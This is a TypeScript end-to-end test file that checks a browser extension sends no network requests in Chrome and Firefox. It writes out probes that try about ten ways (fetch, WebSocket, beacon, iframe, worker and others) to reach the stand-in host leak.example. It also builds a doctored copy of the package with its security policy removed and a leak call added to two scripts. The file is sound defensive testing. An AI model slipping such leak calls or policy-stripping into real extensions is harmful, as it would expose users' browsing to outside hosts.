/** No request, ever: the whole browser is recorded while the extension is installed, used, replaced and left alone. */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { BrowserKind } from '../../src/cli/browsers.ts';
import {
  inBackground,
  openPopup,
  restOn,
  stopBackground,
  until,
  updateExtension,
  waitForCard,
  waitForMarks,
} from '../../src/cli/drive.ts';
import type { Launched } from '../../src/cli/launch.ts';
import { ROOT } from '../../src/cli/load-facts.ts';
import type { Answer } from '../../src/cli/serve.ts';
import { openOwnPage, ownTab } from './extension-page.ts';
import { addressOf, answerSamples, sampleNamed, samplePages, UNLISTED } from './pages.ts';
import { record, type Asked, type Traffic } from './traffic.ts';

const article = addressOf(sampleNamed('partnership-2025.html'));
const VISITS = [article, addressOf(sampleNamed('quiet-football.html')), addressOf(UNLISTED), article];

/** The pages ask for things of their own, so that the record is seen to hold them. */
const samples = answerSamples([...samplePages(), UNLISTED]);
const answer: Answer = (url) => {
  const page = samples(url);
  return (
    page && {
      ...page,
      body: String(page.body).replace(
        '</body>',
        `<script>fetch('/own.json').then(() => { document.documentElement.dataset.own = 'answered'; })</script><img src="/own.png" alt=""></body>`,
      ),
    }
  );
};

const shipped = (kind: BrowserKind): string => join(ROOT, 'dist', kind);
/** How long the browser is watched with nothing to do; a timer that “phones home” would have fired at start. */
const IDLE = 3000;
const idle = () => new Promise((done) => setTimeout(done, IDLE));

async function visit(launched: Launched, url: string) {
  const open = (await launched.browser.pages()).find((p) => /^https?:|^about:blank/.test(p.url()));
  const page = open ?? (await launched.browser.newPage());
  await page.bringToFront();
  await page.goto(url, { waitUntil: 'load' });
  await until('its own request', () =>
    page.evaluate(() => document.documentElement.dataset['own'] !== undefined),
  );
  return page;
}

/** Every part of the extension, as a reader meets it. The same visits as without it. */
async function use(launched: Launched): Promise<void> {
  await (await ownTab(launched, 'welcome.html')).says('Nothing leaves this machine');
  const page = await visit(launched, article);
  await waitForMarks(page, 10);
  await restOn(page, 'Sean Duffy');
  await waitForCard(launched, page);
  await openPopup(launched, page);
  const popup = await ownTab(launched, 'popup.html');
  await popup.says('In this article');
  await popup.press('Side panel').catch(() => undefined); // it closes under the press
  const panel = await ownTab(launched, 'panel.html');
  await panel.says('In this article');
  await panel.run(`(() => {
    const box = document.querySelector('input[type=search]');
    box.value = 'leak';
    box.dispatchEvent(new Event('input', { bubbles: true }));
  })()`);
  await panel.says(/\d+ notes/);
  await panel.press('Whole timeline');
  await panel.says(/(Show as a|Hide the) list/);
  const options = await openOwnPage(launched, 'options.html');
  await options.says('Marks in the text');
  await options.run(`[...document.querySelectorAll('input[type=radio]')].at(-1).click()`);
  await visit(launched, VISITS[1] ?? '');
  const unlisted = await visit(launched, VISITS[2] ?? '');
  const second = await openPopup(launched, unlisted);
  await until('the question', async () => (await second.text()).includes('small-paper.example'));
  await second.press('Read this page');
  await waitForMarks(unlisted, 10);
  await second.close();
}

/**
 * Ways out of a page. Not `frame` on the package as shipped: Chromium 156 refuses the frame and sends nothing, but opens
 * a connection before it has looked at the policy. The build refuses code that makes one (src/cli/shipped.ts).
 */
const WAYS = ['fetch', 'xhr', 'socket', 'events', 'beacon', 'image', 'style', 'script', 'module', 'worker'];
const tryAllFrom = (from: string, only: readonly string[]): string => `(async () => {
  const at = (way) => 'https://leak.example/${from}/' + way;
  const loads = (thing) => new Promise((done, fail) => { thing.onload = thing.onopen = thing.onmessage = done; thing.onerror = fail; });
  const put = (tag, set) => { const el = Object.assign(document.createElement(tag), set); const end = loads(el); document.body.append(el); return end; };
  const ways = {
    fetch: () => fetch(at('fetch'), { mode: 'no-cors' }),
    xhr: () => { const r = new XMLHttpRequest(); const end = loads(r); r.open('GET', at('xhr')); r.send(); return end; },
    socket: () => loads(new WebSocket(at('socket').replace('https', 'wss'))),
    events: () => loads(new EventSource(at('events'))),
    beacon: () => { if (!navigator.sendBeacon(at('beacon'), 'x')) throw new Error('refused'); },
    image: () => { const image = new Image(); const end = loads(image); image.src = at('image'); return end; },
    style: () => put('link', { rel: 'stylesheet', href: at('style') }),
    frame: () => put('iframe', { src: at('frame') }),
    script: () => put('script', { src: at('script') }),
    module: () => put('script', { type: 'module', src: at('module') }),
    worker: () => loads(new Worker(at('worker'))),
  };
  const out = {};
  await Promise.all(Object.entries(ways).filter(([way]) => ${JSON.stringify(only)}.includes(way)).map(async ([way, go]) => {
    const late = new Promise((done) => setTimeout(done, 1500, 'nothing'));
    out[way] = await Promise.race([late, (async () => go())().then(() => 'done', () => 'refused')]).catch(() => 'refused');
  }));
  return out;
})()`;

/** Tries every way out of an extension page and, of those a worker has, out of the background. */
async function tryAll(launched: Launched, only: readonly string[]): Promise<Record<string, string>> {
  const options = await openOwnPage(launched, 'options.html');
  const out = await options.run<Record<string, string>>(tryAllFrom('page', only));
  const ask = tryAllFrom('background', ['fetch']);
  const background =
    launched.kind === 'chrome'
      ? await inBackground<Record<string, string>>(launched, ask)
      : await (await ownTab(launched, 'background')).run<Record<string, string>>(ask);
  return { ...out, 'background fetch': background['fetch'] ?? 'nothing' };
}

const leaks = (traffic: Traffic): string[] =>
  [
    ...new Set(
      traffic.asked
        .map((a) => new URL(a.url))
        .filter((u) => u.hostname === 'leak.example')
        .map((u) => u.pathname.slice(1)),
    ),
  ].sort();

const own = (asked: readonly Asked[]): string[] => {
  const hosts = new Set(VISITS.map((v) => new URL(v).hostname));
  return asked
    .map((a) => a.url)
    .filter((url) => hosts.has(new URL(url).hostname))
    .sort();
};
const others = (traffic: Traffic): string[] => {
  const hosts = new Set(VISITS.map((v) => new URL(v).hostname));
  return traffic.hosts.filter((host) => !hosts.has(host));
};

/** A copy of the package with lines put before its scripts, and without its security policy. */
function doctored(kind: BrowserKind): string {
  const folder = mkdtempSync(join(tmpdir(), 'station-brief-doctored-'));
  cpSync(shipped(kind), folder, { recursive: true });
  const edit = (file: string, change: (text: string) => string) =>
    writeFileSync(join(folder, file), change(readFileSync(join(folder, file), 'utf8')));
  edit('manifest.json', (text) => {
    const { content_security_policy: _, ...rest } = JSON.parse(text) as Record<string, unknown>;
    return JSON.stringify(rest);
  });
  const call = (from: string) =>
    `fetch('https://leak.example/${from}', { mode: 'no-cors' }).catch(() => undefined);`;
  for (const file of ['background', 'gate']) edit(`${file}.js`, (text) => `${call(file)}\n${text}`);
  return folder;
}

describe.each(['chrome', 'firefox'] as const)('network of %s', (kind) => {
  let hostsOfBrowser: string[] = [];
  let withoutExtension: string[] = [];

  test('without the extension: what the browser asks by itself', async () => {
    const { launched, stop } = await record(kind, answer, null);
    for (const url of VISITS) await visit(launched, url);
    await idle();
    const traffic = await stop();
    hostsOfBrowser = others(traffic);
    withoutExtension = own(traffic.asked);
    expect(withoutExtension).toHaveLength(VISITS.length * 3);
  });

  test('installed, used, tempted, replaced, asleep and idle: not one request more', async () => {
    const { launched, stop } = await record(kind, answer, shipped(kind));
    await use(launched);
    const { beacon, ...tempted } = await tryAll(launched, WAYS);
    await updateExtension(launched);
    await waitForMarks(await visit(launched, article), 10);
    await stopBackground(launched);
    await idle();
    const traffic = await stop();
    const rest = traffic.asked.filter((a) => !withoutExtension.includes(a.url));
    console.log(
      `${kind}: ${traffic.asked.length} requests, ${own(traffic.asked).length} of the test pages:\n` +
        [...new Set(own(traffic.asked))].map((url) => `  ${url}`).join('\n') +
        `\n  of the browser itself: ${hostsOfBrowser.join(', ') || 'none'}\n  of the extension: ${
          traffic.asked
            .filter((a) => a.by === 'extension')
            .map((a) => a.url)
            .join(', ') || 'none'
        }`,
    );
    expect(own(traffic.asked)).toEqual(withoutExtension);
    expect(rest.filter((a) => a.by !== 'browser')).toEqual([]);
    expect(others(traffic).filter((host) => !hostsOfBrowser.includes(host))).toEqual([]);
    expect(traffic.pastTheProxy).toEqual([]);
    expect(traffic.inOwnTargets.filter((url) => !/^(chrome-extension|data|blob):/.test(url))).toEqual([]);
    // A beacon never says whether it was sent; the record does.
    expect(beacon).toBeDefined();
    expect(tempted).toEqual(
      Object.fromEntries(
        [...WAYS.filter((way) => way !== 'beacon'), 'background fetch'].map((way) => [way, 'refused']),
      ),
    );
  });

  test('a package that does ask is found out, by every way and from every part', async () => {
    const folder = doctored(kind);
    const { launched, stop } = await record(kind, answer, folder);
    await waitForMarks(await visit(launched, article), 10);
    const tempted = await tryAll(launched, [...WAYS, 'frame']);
    const traffic = await stop();
    rmSync(folder, { recursive: true });
    console.log(`${kind}, doctored: ${leaks(traffic).join(', ')}`);
    expect(leaks(traffic)).toEqual(
      expect.arrayContaining([
        'background',
        'background/fetch',
        'gate',
        'page/beacon',
        'page/events',
        'page/fetch',
        'page/frame',
        'page/image',
        'page/socket',
        'page/style',
        'page/xhr',
      ]),
    );
    expect(tempted['fetch']).toBe('done');
    expect(traffic.asked.some((a) => a.by === 'extension')).toBe(true);
    if (kind === 'chrome')
      expect(traffic.inOwnTargets.some((url) => url.includes('leak.example'))).toBe(true);
  });
});
